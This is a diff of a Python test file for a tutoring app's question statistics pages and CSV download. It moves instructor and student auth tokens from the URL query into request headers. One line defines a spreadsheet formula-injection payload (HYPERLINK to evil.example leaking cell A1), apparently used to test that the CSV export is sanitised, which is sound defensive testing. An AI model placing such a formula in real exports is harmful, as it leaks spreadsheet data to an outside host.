@@ -9,7 +9,7 @@ import statistics
 import pytest
 
 from courses.models import Membership
-from tests.support import make_member
+from tests.support import make_member, session_headers
 from tutor.questions import item_stats, practice
 from tutor.questions.models import Question, QuestionSet
 
@@ -93,19 +93,19 @@ def test_too_few_students_are_not_judged(course):
 def test_the_set_page_flags_questions_and_the_statistics_download_as_csv(answered, client, course):
     question_set, questions = answered
     _, token = make_member(course, Membership.INSTRUCTOR)
-    page = client.get(f"/c/{course.pk}/questions/{question_set.pk}/?lt={token}").content.decode()
+    page = client.get(f"/c/{course.pk}/questions/{question_set.pk}/", headers=session_headers(token)).content.decode()
     assert "Almost everyone answers it right." in page and "Almost everyone answers it wrong" in page
     assert "Item statistics" in page
-    stats_page = client.get(f"/c/{course.pk}/questions/{question_set.pk}/statistics/?lt={token}").content.decode()
+    stats_page = client.get(f"/c/{course.pk}/questions/{question_set.pk}/statistics/", headers=session_headers(token)).content.decode()
     assert "From the first attempts of 10 students." in stats_page and "point-biserial" in stats_page
-    response = client.get(f"/c/{course.pk}/questions/{question_set.pk}/statistics.csv?lt={token}")
+    response = client.get(f"/c/{course.pk}/questions/{question_set.pk}/statistics.csv", headers=session_headers(token))
     assert response["Content-Type"].startswith("text/csv") and "attachment" in response["Content-Disposition"]
     rows = list(csv.DictReader(io.StringIO(response.content.decode())))
     assert [r["question"] for r in rows] == [q.stem for q in questions]
     assert rows[0]["difficulty"] == "0.5" and rows[1]["flags"] == "easy flat" and rows[1]["point_biserial"] == ""
     assert rows[0]["option_shares"] == "*1: 0.5; 2: 0.2; 3: 0.3"
     _, student = make_member(course)
-    assert client.get(f"/c/{course.pk}/questions/{question_set.pk}/statistics/?lt={student}").status_code == 403
+    assert client.get(f"/c/{course.pk}/questions/{question_set.pk}/statistics/", headers=session_headers(student)).status_code == 403
 
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Mehr Infos")'
